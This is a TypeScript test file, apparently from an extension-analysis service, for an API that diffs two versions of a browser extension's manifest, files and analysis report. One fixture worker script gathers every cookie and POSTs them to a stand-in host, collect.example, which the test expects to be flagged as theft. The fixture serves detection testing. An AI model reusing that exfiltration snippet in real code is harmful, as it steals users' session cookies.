import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { buildZip } from '../../../../engine/fixtures/packages/build-zip.ts';
import { importPackage } from '../../domain/catalogue/import-package.ts';
import { requestAnalysis } from '../../domain/analysis/request-analysis.ts';
import { findAnalysis } from '../../storage/analysis/analysis.ts';
import { damagePackage } from '../../testing/damage-package.ts';
import { type TestApp, startTestApp } from '../../testing/test-app.ts';
import { insertTestExtension } from '../../testing/test-catalogue.ts';

const id = 'cbacbacbacbacbacbacbacbacbacbacb';
const metadataOnly = 'd'.repeat(32);

describe('GET /api/v1/extensions/{extensionId}/versions/{version}/diff/{other}', () => {
  let app: TestApp;
  let cookie: string;
  before(async () => {
    app = await startTestApp({ work: true });
    cookie = await app.signIn('viewer');
    const add = async (version: string, more: object, worker: string) => {
      const manifest = {
        manifest_version: 3,
        name: 'Changing',
        version,
        background: { service_worker: 'worker.js' },
        ...more,
      };
      const bytes = buildZip([
        { name: 'manifest.json', contents: JSON.stringify(manifest) },
        { name: 'worker.js', contents: worker },
      ]);
      await importPackage(app.services, { kind: 'bytes', bytes, name: 'v.zip' }, { id });
    };
    await add('1.0', { permissions: ['storage'] }, 'let quiet = 1;');
    const loud = `chrome.cookies.getAll({}, (all) =>
      fetch('https://collect.example/in', { method: 'POST', body: JSON.stringify(all) }));`;
    const more = { permissions: ['storage', 'cookies'], host_permissions: ['<all_urls>'] };
    await add('2.0', more, loud);
    await add('2.1', more, `${loud}\nlet more = 2;`);
    const manifest = { permissions: ['tabs'] };
    await insertTestExtension(app.database.db, { extension_id: metadataOnly }, manifest);
    await app.work?.pretendWorker();
    await app.work?.startWorkers();
    await Promise.all([analyse('1.0'), analyse('2.0')]);
  });
  after(() => app.close());

  async function analyse(version: string): Promise<void> {
    const request = { extensionId: id, version, priority: 'high' } as const;
    const { id: analysisId } = await requestAnalysis(app.services, request);
    for (let attempt = 0; attempt < 1_200; attempt += 1) {
      if ((await findAnalysis(app.database.db, analysisId))?.state === 'completed') return;
      await new Promise((resolve) => setTimeout(resolve, 100));
    }
    throw new Error('the analysis did not finish');
  }

  const get = (from: string, to: string, extensionId = id) =>
    app.send('GET', `/api/v1/extensions/${extensionId}/versions/${from}/diff/${to}`, { cookie });

  type Change = { added: unknown[]; removed: unknown[] };
  type Part = Record<string, Change>;

  it('200 with what an update brought, to manifest, files and report', async () => {
    const { status, body } = await get('1.0', '2.0');
    assert.equal(status, 200);
    assert.deepEqual([body.data['before'], body.data['after']], ['1.0', '2.0']);
    const manifest = body.data['manifest'] as Part;
    assert.deepEqual(manifest['permissions'], { added: ['cookies'], removed: [] });
    assert.deepEqual(manifest['host_permissions']?.added, ['<all_urls>']);
    const warning = 'Read and change all your data on all websites';
    assert.deepEqual(manifest['warnings']?.added, [warning]);
    const { changed } = body.data['files'] as { changed: { path: string }[] };
    assert.deepEqual(
      changed.map(({ path }) => path),
      ['manifest.json', 'worker.js'],
    );
    const report = body.data['report'] as Part;
    assert.equal(report['same_ruleset'], true);
    assert.deepEqual(report['hosts']?.added, [{ host: 'collect.example', sends_data: true }]);
    const stolen = { source: 'cookies', sink: 'network', direction: 'theft' };
    assert.deepEqual(report['flows']?.added, [{ ...stolen, host: 'collect.example' }]);
    assert.ok((report['findings']?.added.length ?? 0) > 0);
  });

  it('200 the other way round, with the same the other way round', async () => {
    const [there, back] = await Promise.all([get('1.0', '2.0'), get('2.0', '1.0')]);
    const turned = (body: (typeof there)['body'], part: string, key: string) =>
      (body.data[part] as Part)[key];
    for (const [part, key] of [
      ['manifest', 'permissions'],
      ['manifest', 'warnings'],
      ['report', 'flows'],
      ['report', 'findings'],
    ] as const) {
      const [a, b] = [turned(there.body, part, key), turned(back.body, part, key)];
      assert.deepEqual([a?.added, a?.removed], [b?.removed, b?.added], key);
    }
  });

  it('200 without the part that one version does not have', async () => {
    const { body } = await get('2.0', '2.1');
    assert.equal('report' in body.data, false);
    assert.deepEqual((body.data['manifest'] as Part)['permissions'], { added: [], removed: [] });
    const { body: bare } = await get('4.2.0', '4.2.0', metadataOnly);
    assert.deepEqual(Object.keys(bare.data).toSorted(), [
      'after',
      'before',
      'manifest',
      'truncated',
    ]);
  });

  it('400 for a version that is longer than any', async () => {
    assert.equal((await get('1.0', '2'.repeat(101))).status, 400);
  });

  it('404 naming the version that is not there', async () => {
    const { status, body } = await get('1.0', '3.0');
    assert.deepEqual([status, body.error], [404, 'extension version not found']);
    assert.equal((await get('3.0', '1.0')).status, 404);
    assert.equal((await get('1.0', '2.0', 'e'.repeat(32))).status, 404);
  });

  it('500 where the package of one version is gone, though its hash is known', async () => {
    const { body } = await app.send('GET', `/api/v1/extensions/${id}/versions/2.1`, { cookie });
    const [first] = body.data['packages'] as readonly { readonly sha256: string }[];
    await damagePackage(app.work, first?.sha256 ?? '');
    for (const [from, to] of [['1.0', '2.1'] as const, ['2.1', '1.0'] as const]) {
      const answer = await get(from, to);
      assert.deepEqual([answer.status, answer.body['code']], [500, 'package_damaged']);
    }
  });
});
